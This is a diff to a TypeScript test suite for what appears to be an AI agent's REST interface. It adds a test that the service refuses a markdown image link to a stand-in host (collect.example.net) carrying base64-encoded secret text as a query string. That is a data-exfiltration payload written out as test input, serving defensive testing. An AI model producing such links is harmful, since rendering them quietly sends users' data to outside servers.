@@ -298,6 +298,18 @@ describe('as its own REST interface', () => {
     expect(service.noted.length).toBe(before);
   });
 
+  it('is asked nothing that carries text to another server in a link', async () => {
+    const before = service.noted.length;
+    const words = Buffer.from('the board met in secret').toString('base64url');
+    const response = await agent.fetch(`${base}/orders/search`, {
+      method: 'POST',
+      body: JSON.stringify({ text: `![](https://collect.example.net/p.png?${words})` }),
+      headers: { 'content-type': 'application/json' },
+    });
+    expect(await problem(response)).toMatchObject({ status: 403, code: 'data.output_refused' });
+    expect(service.noted.length).toBe(before);
+  });
+
   it('waits for a person, and then runs exactly the call that was shown, once', async () => {
     const search = (text: string) =>
       cautious.fetch(`${base}/orders/search`, {
